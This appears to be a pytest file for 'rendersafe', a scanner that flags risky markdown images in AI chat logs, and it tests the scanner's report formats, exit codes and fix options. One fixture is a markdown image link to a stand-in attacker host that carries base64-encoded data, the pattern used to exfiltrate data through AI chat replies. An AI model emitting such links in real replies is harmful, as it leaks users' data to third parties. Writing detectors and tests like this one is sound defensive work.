"""`rendersafe scan`'s reports and exit codes as ruff and bandit users expect them:
--output-format with -o (and --json/--sarif/--html as aliases), GitHub annotations,
-q, --exit-zero, --fail-on, --select/--ignore, --fix exiting 0 once all is fixed, the
deprecated --format, reports inside a scanned folder skipped, a text file one record."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import pytest

from rendersafe.cli import run
from rendersafe.findings import Reason

IMG = "![x](https://attacker.example/p.png?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=)"
RELATIVE = "![x](/img.png)"  # relative_image: security severity 5.0, "medium"


def cli(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = run(["scan", *args, "--jobs", "1"], stdout=out, stderr=err)
    return code, out.getvalue(), err.getvalue()


@pytest.fixture
def logs(tmp_path: Path) -> Path:
    folder = tmp_path / "logs"
    folder.mkdir()
    rows = [{"id": "a", "reply": IMG}, {"id": "b", "reply": "fine"}, {"id": "c", "reply": RELATIVE}]
    (folder / "chat.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    return folder


def test_text_lists_each_finding_then_the_summary_and_quiet_only_the_findings(
    logs: Path,
) -> None:
    code, out, err = cli(str(logs))
    assert code == 1
    lines = out.splitlines()
    assert re.fullmatch(rf"{re.escape(str(logs))}/chat\.jsonl:1: encoded_base64 image .*", lines[0])
    assert lines[1].endswith("relative_image image removed, record c, role model")
    assert "findings 2" in out
    assert err == ""
    code, quiet, _ = cli(str(logs), "-q")
    assert code == 1
    assert quiet == "\n".join(lines[:2]) + "\n"


@pytest.mark.parametrize("fmt", ["json", "sarif", "html"])
def test_output_format_and_o_write_what_the_old_flags_write(
    logs: Path, tmp_path: Path, fmt: str
) -> None:
    new, old = tmp_path / f"new.{fmt}", tmp_path / f"old.{fmt}"
    assert cli(str(logs), "--output-format", fmt, "-o", str(new))[0] == 1
    assert cli(str(logs), f"--{fmt}", str(old), "-q")[0] == 1
    assert new.read_text() == old.read_text()
    code, out, err = cli(str(logs), "--output-format", fmt)  # to stdout
    assert code == 1
    assert out == new.read_text()
    assert "findings 2" in err  # the summary, out of the report's way


def test_json_to_stdout_is_the_report_alone(logs: Path) -> None:
    _, out, _ = cli(str(logs), "--output-format", "json", "-q")
    assert json.loads(out)["summary"]["findings"] == 2
    assert cli(str(logs), "--output-format", "json", "--sarif", "-")[0] == 2


def test_github_annotations(tmp_path: Path) -> None:
    odd = tmp_path / "a,b: c"  # a comma and a colon in the path are escaped
    odd.mkdir()
    (odd / "chat.jsonl").write_text(json.dumps({"id": "x", "reply": f"{IMG} {RELATIVE}"}) + "\n")
    (odd / "broken.jsonl").write_text("{not json\n")
    code, out, _ = cli(str(odd), "--output-format", "github")
    assert code == 1
    escaped = str(odd).replace(":", "%3A").replace(",", "%2C")
    assert out.splitlines() == [
        f"::error file={escaped}/chat.jsonl,line=1,title=rendersafe encoded_base64::image "
        "removed attacker.example (also image_host_not_allowed), "
        "record x, role model",
        f"::warning file={escaped}/chat.jsonl,line=1,title=rendersafe relative_image::image "
        "removed, record x, role model",
        f"::error file={escaped}/broken.jsonl,title=rendersafe%3A input not read,line=1::"
        + out.splitlines()[2].split("::", 2)[2],
    ]
    assert "not JSON" in out.splitlines()[2]


def test_exit_zero_and_fail_on(logs: Path, tmp_path: Path) -> None:
    assert cli(str(logs), "--exit-zero", "-q")[0] == 0
    medium = tmp_path / "medium.md"
    medium.write_text(RELATIVE)
    assert cli(str(medium), "--fail-on", "high")[0] == 0  # reported, below the threshold
    assert cli(str(medium), "--fail-on", "medium")[0] == 1
    assert cli(str(logs), "--fail-on", "high")[0] == 1  # encoded_base64 is 8.5
    assert "relative_image" in cli(str(medium), "--fail-on", "high")[1]


def test_select_and_ignore(logs: Path) -> None:
    code, out, _ = cli(str(logs), "--select", "relative_image", "-q", "--output-format", "json")
    report = json.loads(out)
    assert code == 1
    assert [row["reasons"] for row in report["findings"]] == [["relative_image"]]
    assert report["summary"]["by_reason"] == {"relative_image": 1}
    code, out, _ = cli(str(logs), "--ignore", "RELATIVE-IMAGE,encoded_base64", "-q")
    assert code == 1  # the image's other reasons stay
    assert "relative_image" not in out
    assert "encoded_base64" not in out
    assert out.startswith(f"{logs}/chat.jsonl:1: image_host_not_allowed ")
    code, out, _ = cli(str(logs), "--select", "relative_image", "--ignore", "relative_image")
    assert code == 0
    code, out, err = cli(str(logs), "--select", "encoded_base64,no_such_code")
    assert code == 2
    assert "unknown reason code 'no_such_code'" in err
    assert all(str(reason) in err for reason in Reason)
    assert out == ""


def test_fix_exits_0_when_every_finding_was_fixed(logs: Path, tmp_path: Path) -> None:
    assert cli(str(logs), "--fix", str(tmp_path / "fixed"), "-q")[0] == 0
    assert cli(str(tmp_path / "fixed"), "-q")[0] == 0  # the fixed copies are clean
    assert cli(str(logs), "--in-place", "-q")[0] == 0
    assert cli(str(logs))[0] == 0


def test_fix_that_cannot_write_is_not_clean(logs: Path, tmp_path: Path) -> None:
    (logs / "broken.jsonl").write_text("{not json\n")  # a record no fix can be sure of
    assert cli(str(logs), "--fix", str(tmp_path / "fixed"), "-q")[0] == 1


def test_input_format_and_the_deprecated_format(tmp_path: Path) -> None:
    data = tmp_path / "replies.log"
    data.write_text(json.dumps({"reply": IMG}) + "\n")
    code, out, err = cli(str(data), "--input-format", "jsonl", "-q")
    assert (code, err) == (1, "")
    assert "encoded_base64" in out
    code, old, err = cli(str(data), "--format", "jsonl", "-q")
    assert (code, old) == (1, out)
    assert "--format is deprecated" in err
    assert "--input-format" in err
    assert cli(str(data), "--format", "jsonl", "--input-format", "json")[0] == 2


def test_reports_inside_the_scanned_folder_are_not_read(logs: Path) -> None:
    earlier = ("--json", str(logs / "old.json"), "--sarif", str(logs / "old.sarif"))
    assert cli(str(logs), *earlier, "--html", str(logs / "old.html"), "-q")[0] == 1
    code, _, err = cli(str(logs), "--output-format", "json", "-o", str(logs / "r.json"))
    assert code == 1, err
    report = json.loads((logs / "r.json").read_text())
    assert report["errors"] == []
    assert {Path(row["path"]).name for row in report["findings"]} == {"chat.jsonl"}
    assert f"rendersafe: {logs}/old.json: a report rendersafe wrote; not scanned" in err
    assert "r.json" not in err  # this scan's own output: not even a note
    # Recognised by what is in them, not by their names.
    (logs / "old.json").rename(logs / "notes.json")
    (logs / "old.sarif").rename(logs / "results.json")
    (logs / "old.html").rename(logs / "page.htm")
    code, out, err = cli(str(logs), "--include", "*")
    assert code == 1, err
    assert "files 1 (0 with errors)" in out
    for name in ("notes.json", "results.json", "page.htm", "r.json"):
        assert f"{name}: a report rendersafe wrote" in err
    assert cli(str(logs), "--include", "*", "-q")[2] == ""  # quiet: no notes


def test_a_markdown_reply_is_one_record_lined_and_a_missing_file_prints_no_table(
    tmp_path: Path,
) -> None:
    reply = tmp_path / "reply.md"
    reply.write_text(f"Hello.\n\n{IMG}\n")
    code, out, _ = cli(str(reply), "--output-format", "json", "-q")
    report = json.loads(out)
    assert report["summary"]["records"] == 1
    assert [row["line"] for row in report["findings"]] == [3]  # the line in the file
    code, out, err = cli(str(tmp_path / "missing.jsonl"))
    assert code == 2
    assert out == ""
    assert err == f"rendersafe: {tmp_path / 'missing.jsonl'}: no such file or directory\n"
